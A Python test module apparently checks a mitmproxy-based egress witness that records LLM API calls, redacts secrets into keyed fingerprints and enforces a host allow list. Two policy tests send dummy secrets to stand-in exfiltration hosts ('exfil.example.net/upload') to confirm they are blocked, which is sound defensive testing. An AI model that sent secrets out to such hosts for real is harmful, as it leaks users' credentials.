"""End-to-end tests of the proxy witness: real mitmdump, real HTTPS server, real client.

The witness runs in a background thread (its own trio loop) for the whole module; each
test makes requests through it with urllib and waits for the events it expects. The
server (`tests.collectors.llm_server`) plays Anthropic and OpenAI in recorded shapes;
the proxy rewrites ``api.anthropic.com`` and ``api.openai.com`` to it. When ``CI=true`` a
missing mitmdump is a failure, never a skip.
"""

from __future__ import annotations

import gzip
import json
import os
import shutil
import signal
import socket
import ssl
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import quote

import msgspec
import pytest
import trio

from ledger import fingerprint_secret, keyed_fingerprint
from collectors.llm import LlmCallBuilder
from collectors.proxy import ProxyInfo, run_proxy_witness
from ledger import BlobStore, Submission
from ledger.events import (HttpExchange, LlmCall, ProxyTunnel, WitnessGap, WitnessRaw, WitnessStarted,
                           WitnessStopped)
from tests.collectors.llm_server import FIXTURES, ROUTES, LlmServer

# One worker runs the module: its witness is shared, and the last test greps what all the
# others produced (under xdist, a module split over workers left it too little to read).
pytestmark = pytest.mark.xdist_group("proxy_witness")

MITMDUMP = Path(sys.executable).with_name("mitmdump")
if not MITMDUMP.exists() and shutil.which("mitmdump") is None:
    if os.environ.get("CI") == "true":
        raise RuntimeError("mitmdump is missing (CI=true: a failure, never a skip)")
    pytest.skip("mitmdump not installed", allow_module_level=True)

KEY = b"test-fingerprint-key-0123456789"
BEARER = "sk-ant-oat01-bearer-secret-value-XYZ"
API_KEY = "sk-ant-api03-xapikey-secret-value-ABC"
COOKIE = "cookie-secret-value-QRS"
QUERY_KEY = "query/secret+value=TUV"
SERVER_COOKIE = "server-session-cookie-secret-LMN"
SECRETS = [BEARER, API_KEY, COOKIE, QUERY_KEY, SERVER_COOKIE]
REQUESTS = {
    "/v1/messages": ("anthropic_request.json", "anthropic_request_stream.json", "api.anthropic.com"),
    "/v1/chat/completions": ("openai_chat_request.json", "openai_chat_request_stream_usage.json", "api.openai.com"),
    "/v1/responses": ("openai_responses_request.json", "openai_responses_request_stream.json", "api.openai.com"),
}


class Witness:
    """The witness running in a thread; `submissions` grows as events arrive."""

    def __init__(self, tmp: Path, server: LlmServer, *,
                 allow_hosts: tuple[str, ...] = ("api.anthropic.com", "api.openai.com", "localhost"),
                 upstream: dict[str, str] | None = None, **options):
        self.blobs = BlobStore(tmp / "blobs")
        self.submissions: list[Submission] = []
        self.info: ProxyInfo | None = None
        self.error: BaseException | None = None
        self._stop = threading.Event()
        self._ready = threading.Event()
        self._upstream = {h: f"127.0.0.1:{server.port}" for h in ("api.anthropic.com", "api.openai.com")}
        self._upstream.update(upstream or {})
        self._allow_hosts, self._options = allow_hosts, options
        self._server = server
        self._confdir = tmp / "mitmproxy"
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        if not self._ready.wait(60) or self.info is None:
            raise RuntimeError(f"witness did not start: {self.error!r}")

    def _run(self) -> None:
        async def main() -> None:
            send, receive = trio.open_memory_channel[Submission](10_000)

            async def collect() -> None:
                async for item in receive:
                    self.submissions.append(item)

            async with trio.open_nursery() as nursery:
                nursery.start_soon(collect)
                self.info = await nursery.start(lambda task_status: run_proxy_witness(
                    send, blobs=self.blobs, fingerprint_key=KEY, confdir=self._confdir,
                    allow_hosts=self._allow_hosts, upstream=self._upstream,
                    upstream_trusted_ca=self._server.cert, task_status=task_status, **self._options))
                self._ready.set()
                await trio.to_thread.run_sync(self._stop.wait)
                nursery.cancel_scope.cancel()
        try:
            trio.run(main)
        except BaseException as exc:  # reported by the fixture
            self.error = exc
        finally:
            self._ready.set()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(30)

    def events(self, kind: type) -> list:
        return [s.event for s in list(self.submissions) if isinstance(s.event, kind)]

    def wait_for(self, kind: type, pred=lambda e: True, count: int = 1, timeout: float = 15.0) -> list:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = [e for e in self.events(kind) if pred(e)]
            if len(found) >= count:
                return found
            time.sleep(0.02)
        raise AssertionError(f"no {kind.__name__} matching after {timeout}s; have {self.events(kind)!r}")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory):
    with LlmServer(tmp_path_factory.mktemp("llm-server"), cookie=SERVER_COOKIE) as srv:
        yield srv


@pytest.fixture(scope="module")
def witness(tmp_path_factory: pytest.TempPathFactory, server: LlmServer):
    w = Witness(tmp_path_factory.mktemp("proxy"), server)
    yield w
    w.stop()


def opener(info: ProxyInfo) -> urllib.request.OpenerDirector:
    proxy = f"http://{info.host}:{info.port}"
    ctx = ssl.create_default_context(cafile=str(info.ca_cert_path))
    return urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy}),
                                       urllib.request.HTTPSHandler(context=ctx))


def call(witness: Witness, url: str, body: bytes | None = None, *, extra: dict | None = None):
    """POST (or GET) through the proxy with every secret header; returns (status, body)."""
    headers = {"Authorization": f"Bearer {BEARER}", "x-api-key": API_KEY, "Cookie": f"sid={COOKIE}; theme=dark",
               "Content-Type": "application/json", **(extra or {})}
    req = urllib.request.Request(url, data=body, headers=headers, method="POST" if body is not None else "GET")
    try:
        with opener(witness.info).open(req, timeout=20) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def secret_query(tag: str) -> str:
    return f"tag={tag}&api_key={quote(QUERY_KEY, safe='')}"


def expected_call(endpoint_path: str, stream: bool) -> LlmCall:
    """The call `LlmCallBuilder` builds from the fixtures directly (no proxy in between)."""
    request_file, stream_request_file, _ = REQUESTS[endpoint_path]
    body_file, sse_file = ROUTES[endpoint_path]
    from collectors.llm import classify
    builder = LlmCallBuilder(*classify("POST", "", endpoint_path))
    builder.request((FIXTURES / (stream_request_file if stream else request_file)).read_bytes())
    ctype = "text/event-stream; charset=utf-8" if stream else "application/json"
    builder.response_start(200, [("Content-Type", ctype)])
    builder.response_data((FIXTURES / (sse_file if stream else body_file)).read_bytes())
    return builder.finish()


# --- LLM calls, field by field -----------------------------------------------------------


@pytest.mark.parametrize("compressed", [False, True], ids=["plain", "gzip"])
@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
@pytest.mark.parametrize("endpoint_path", list(REQUESTS))
def test_llm_call_recorded_field_by_field(witness, endpoint_path, stream, compressed):
    request_file, stream_request_file, host = REQUESTS[endpoint_path]
    request = (FIXTURES / (stream_request_file if stream else request_file)).read_bytes()
    tag = f"{endpoint_path.strip('/').replace('/', '-')}-{stream}-{compressed}"
    url = f"https://{host}{endpoint_path}?{secret_query(tag)}" + ("&gzip=1" if compressed else "")
    status, body = call(witness, url, request)
    assert status == 200
    body_file, sse_file = ROUTES[endpoint_path]
    served = (FIXTURES / (sse_file if stream else body_file)).read_bytes()
    assert (gzip.decompress(body) if compressed else body) == served  # the client got it all, as sent
    [exchange] = witness.wait_for(HttpExchange, lambda e: f"tag={tag}&" in e.path)
    assert (exchange.method, exchange.scheme, exchange.host, exchange.port) == ("POST", "https", host, 443)
    assert exchange.path.startswith(f"{endpoint_path}?tag={tag}&api_key=fp:")
    assert exchange.status == 200 and exchange.error is None and exchange.denied is None
    assert exchange.request_bytes == len(request)
    assert exchange.response_bytes == len(served)  # decoded size
    assert witness.blobs.get(exchange.request_body_sha256) == request
    assert witness.blobs.get(exchange.response_body_sha256) == served  # decoded from gzip
    assert 0 < exchange.started_ns <= exchange.ended_ns
    headers = dict((k.lower(), v) for k, v in exchange.response_headers)
    assert headers.get("content-encoding") == ("gzip" if compressed else None)
    [llm] = _calls_after(witness, exchange)
    expected = expected_call(endpoint_path, stream)
    assert llm == expected
    assert llm.streamed is stream and llm.usage is not None and llm.usage_missing_reason is None
    assert llm.served_model and llm.served_model != llm.requested_model
    if endpoint_path == "/v1/messages" and not stream:
        assert llm.served_model == "claude-sonnet-4-5-20250929" and llm.stop_reason == "tool_use"
        assert llm.usage == json.loads(served)["usage"]
        assert (llm.normalized.input_tokens, llm.normalized.output_tokens) == (25 + 1200 + 3400, 58)
        assert (llm.normalized.cache_read_tokens, llm.normalized.cache_write_tokens) == (3400, 1200)
    if endpoint_path == "/v1/messages" and stream:
        assert llm.stop_reason == "end_turn" and llm.usage["output_tokens"] == 15  # last delta, not summed
        assert llm.normalized.total_tokens == 4640


def _calls_after(witness: Witness, exchange: HttpExchange, timeout: float = 15.0) -> list[LlmCall]:
    """The llm.call submitted right after ``exchange`` (the witness emits them in a row, one
    submission after the other: the next may not be there yet when ``exchange`` is)."""
    deadline = time.monotonic() + timeout
    while True:
        subs = list(witness.submissions)
        at = next((i for i, s in enumerate(subs) if s.event is exchange), None)
        if at is not None and at + 1 < len(subs):
            return [subs[at + 1].event] if isinstance(subs[at + 1].event, LlmCall) else []
        if time.monotonic() > deadline:
            return []
        time.sleep(0.02)


# --- policy ------------------------------------------------------------------------------


def test_denied_host_gets_403_and_is_recorded(witness):
    status, body = call(witness, f"http://exfil.example.net/upload?{secret_query('deny-http')}", b"{}")
    assert status == 403
    assert b"caisson egress policy: host exfil.example.net is not in the allow list" in body
    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=deny-http&" in e.path)
    assert ex.host == "exfil.example.net" and ex.status == 403 and ex.scheme == "http"
    assert ex.denied == "caisson egress policy: host exfil.example.net is not in the allow list"
    assert not any(c.requested_model for c in _calls_after(witness, ex))  # no model call for a refusal


def test_denied_host_gets_its_tunnel_refused_and_recorded(witness):
    with pytest.raises(urllib.error.URLError, match="Tunnel connection failed: 403"):
        call(witness, f"https://exfil.example.org/upload?{secret_query('deny-https')}", b"{}")
    [tunnel] = witness.wait_for(ProxyTunnel, lambda t: t.host == "exfil.example.org")
    assert (tunnel.via, tunnel.port, tunnel.protocol, tunnel.exchanges) == ("connect", 443, "", 0)
    assert tunnel.denied == "caisson egress policy: host exfil.example.org is not in the allow list"
    assert not [e for e in witness.events(HttpExchange) if e.host == "exfil.example.org"]  # nothing went further


# --- streaming ---------------------------------------------------------------------------


def test_sse_streams_through_before_the_server_finishes(witness, server):
    request = (FIXTURES / "anthropic_request_stream.json").read_bytes()
    path = "/v1/messages?tag=stream-timing&pause=1"
    headers = {"Authorization": f"Bearer {BEARER}", "Content-Type": "application/json"}
    req = urllib.request.Request(f"https://api.anthropic.com{path}", data=request, headers=headers)
    with opener(witness.info).open(req, timeout=20) as resp:
        first_line = resp.readline()
        first_at = time.monotonic_ns()
        rest = resp.read()
    assert first_line == b"event: message_start\n" and rest
    last_sent = server.last_chunk_sent[path]
    assert first_at < last_sent, "the client got the first event only after the server sent the last"
    assert last_sent - first_at > 0.5e9
    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=stream-timing" in e.path)
    [llm] = _calls_after(witness, ex)
    assert llm.usage is not None and llm.stop_reason == "end_turn"


# --- bad input ---------------------------------------------------------------------------


def test_malformed_json_body_is_recorded(witness):
    status, _ = call(witness, "https://api.anthropic.com/v1/messages?tag=badjson&body=badjson",
                     (FIXTURES / "anthropic_request.json").read_bytes())
    assert status == 200
    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=badjson" in e.path)
    [llm] = _calls_after(witness, ex)
    assert llm.usage is None and "malformed JSON" in llm.usage_missing_reason


def test_invalid_utf8_body_is_recorded(witness):
    status, _ = call(witness, "https://api.openai.com/v1/chat/completions?tag=badutf8&body=badutf8",
                     b'{"model": "o4-\xff", "messages": []}')
    assert status == 200
    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=badutf8" in e.path)
    [llm] = _calls_after(witness, ex)
    assert llm.usage is None and "invalid UTF-8" in llm.usage_missing_reason
    witness.wait_for(WitnessRaw, lambda r: "tag=badutf8" in r.line and "invalid UTF-8 in request body" in r.line)


@pytest.mark.parametrize("compressed", [False, True], ids=["plain", "gzip"])
def test_truncated_sse_is_recorded_as_cut(witness, compressed):
    tag = f"cut-{compressed}"
    url = f"https://api.anthropic.com/v1/messages?tag={tag}&cut=1" + ("&gzip=1" if compressed else "")
    try:
        call(witness, url, (FIXTURES / "anthropic_request_stream.json").read_bytes())
    except Exception:
        pass  # the client may see the cut as an error; the witness must not care
    [ex] = witness.wait_for(HttpExchange, lambda e: f"tag={tag}&" in e.path)
    assert ex.status == 200 and ex.error
    [llm] = _calls_after(witness, ex)
    assert llm.usage is None and llm.usage_missing_reason
    assert llm.served_model == "claude-sonnet-4-5-20250929"  # message_start did arrive


def test_non_http_client_on_the_proxy_port_is_recorded(witness):
    with socket.create_connection((witness.info.host, witness.info.port), timeout=5) as sock:
        sock.sendall(b"\x00\x01GARBAGE not http at all\r\n\r\n")
        sock.recv(1000)
    witness.wait_for(WitnessRaw, lambda r: "connection from 127.0.0.1" in r.line)
    request = (FIXTURES / "anthropic_request.json").read_bytes()
    status, _ = call(witness, "https://api.anthropic.com/v1/messages?tag=after-garbage", request)
    assert status == 200  # the proxy still works
    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=after-garbage" in e.path)
    assert ex.status == 200 and ex.error is None


# --- secrets: greps everything the witness holds, including traffic of its own ----------


def test_no_secret_reaches_events_or_blobs(witness):
    # Its own calls (every endpoint, JSON and SSE, plain and gzip) make the grep cover each kind
    # of body whatever else ran before it on this worker: module fixtures are rebuilt when
    # xdist interleaves another module's tests, so counting on earlier tests' blobs is flaky.
    own = []
    for endpoint_path, (request_file, stream_request_file, host) in REQUESTS.items():
        for n, request_name in enumerate((request_file, stream_request_file)):
            tag = f"secrets-{host}-{endpoint_path.strip('/').replace('/', '-')}-{n}"
            url = f"https://{host}{endpoint_path}?{secret_query(tag)}" + ("&gzip=1" if n else "")
            assert call(witness, url, (FIXTURES / request_name).read_bytes())[0] == 200
            own += witness.wait_for(HttpExchange, lambda e, tag=tag: f"tag={tag}&" in e.path)
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, "note": API_KEY,
                       "messages": [{"role": "user", "content": "hi"}]}).encode()
    call(witness, f"https://api.anthropic.com/v1/messages?{secret_query('secrets')}", body)
    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=secrets&" in e.path)
    headers = dict((k.lower(), v) for k, v in ex.request_headers)
    assert headers["authorization"] == "Bearer " + fingerprint_secret(BEARER, KEY)
    assert headers["x-api-key"] == fingerprint_secret(API_KEY, KEY)
    assert headers["cookie"] == f"sid={fingerprint_secret(COOKIE, KEY)}; theme={fingerprint_secret('dark', KEY)}"
    assert f"api_key={fingerprint_secret(QUERY_KEY, KEY)}" in ex.path
    set_cookie = dict((k.lower(), v) for k, v in ex.response_headers)["set-cookie"]
    assert set_cookie == f"session={fingerprint_secret(SERVER_COOKIE, KEY)}; Path=/; HttpOnly"
    assert fingerprint_secret(API_KEY, KEY).encode() in witness.blobs.get(ex.request_body_sha256)
    encoded = b"".join(msgspec.msgpack.encode(s.event) + msgspec.json.encode(s.event) for s in witness.submissions)
    held = set(witness.blobs)
    for e in [*own, ex]:  # the grep below reads every body these calls produced
        assert {e.request_body_sha256, e.response_body_sha256} <= held, e.path
    blobs = [witness.blobs.get(h) for h in held]
    for secret in SECRETS:
        for form in {secret, quote(secret, safe=""), quote(secret)}:
            assert form.encode() not in encoded, f"{form!r} in an event"
            assert not any(form.encode() in b for b in blobs), f"{form!r} in a blob"


def test_fingerprint_matches_envpin():
    import hashlib
    import hmac

    # pinned to the definition (HMAC-SHA256 with the operator's key, 16 hex), not to itself
    expected = "fp:" + hmac.new(KEY, b"sk-test", hashlib.sha256).hexdigest()[:16]
    assert keyed_fingerprint(KEY)("sk-test") == fingerprint_secret("sk-test", KEY) == expected


# --- lifecycle: started, stopped on cancel, gap when mitmdump dies -----------------------


def _run_briefly(tmp_path: Path, kill: bool) -> list[Submission]:
    out: list[Submission] = []

    async def main() -> None:
        send, receive = trio.open_memory_channel[Submission](1000)
        async with trio.open_nursery() as nursery:
            info = await nursery.start(lambda task_status: run_proxy_witness(
                send, blobs=BlobStore(tmp_path / "blobs"), fingerprint_key=KEY, confdir=tmp_path / "conf",
                task_status=task_status))
            assert info.ca_cert_path.read_bytes().startswith(b"-----BEGIN CERTIFICATE-----")
            if kill:
                os.kill(info.pid, signal.SIGKILL)
                async for item in receive:  # the witness returns by itself after its gap
                    out.append(item)
                return
            await trio.sleep(0.2)
            nursery.cancel_scope.cancel()
        out.extend(_drain(receive))
        with pytest.raises(ProcessLookupError):
            os.kill(info.pid, 0)

    trio.run(main)
    return out


def _drain(receive) -> list[Submission]:
    items = []
    while True:
        try:
            items.append(receive.receive_nowait())
        except (trio.WouldBlock, trio.EndOfChannel):
            return items


def test_started_then_stopped_on_cancel(tmp_path):
    events = [s.event for s in _run_briefly(tmp_path, kill=False)]
    assert isinstance(events[0], WitnessStarted) and events[0].detail["mitmproxy_version"] == "11.0.2"
    assert isinstance(events[-1], WitnessStopped) and events[-1].witness == "proxy" and events[-1].lines >= 1


def test_gap_when_mitmdump_dies(tmp_path):
    events = [s.event for s in _run_briefly(tmp_path, kill=True)]
    assert isinstance(events[0], WitnessStarted)
    gaps = [e for e in events if isinstance(e, WitnessGap)]
    assert gaps and "mitmdump exited" in gaps[0].reason


def test_each_client_connection_is_looked_up_once_when_accepted_and_its_requests_carry_it(tmp_path, server):
    import http.client

    from collectors.proxy import ClientOwner
    from ledger.events import ClientProcess

    looked: list[str | None] = []

    def resolve(client: str | None) -> ClientOwner:  # stands in for ClientResolver: a pid per lookup
        looked.append(client)
        return ClientOwner([ClientProcess(pid=len(looked), host_pid=1000 + len(looked), start_time_ns=1)])

    w = Witness(tmp_path, server, resolve_client=resolve)
    try:
        ctx = ssl.create_default_context(cafile=str(w.info.ca_cert_path))
        body = (FIXTURES / "anthropic_request.json").read_bytes()
        for requests in (2, 1):  # a keep-alive connection with two requests, then a new one
            conn = http.client.HTTPSConnection(w.info.host, w.info.port, context=ctx, timeout=20)
            conn.set_tunnel("api.anthropic.com", 443)
            for _ in range(requests):
                conn.request("POST", "/v1/messages", body=body, headers={"content-type": "application/json"})
                conn.getresponse().read()
            conn.close()
        exchanges = w.wait_for(HttpExchange, count=3)
    finally:
        w.stop()
    assert [[p.pid for p in e.client_processes] for e in exchanges] == [[1], [1], [2]]
    assert len(looked) == 2 and looked == [exchanges[0].client, exchanges[2].client]
    assert exchanges[0].client == exchanges[1].client != exchanges[2].client
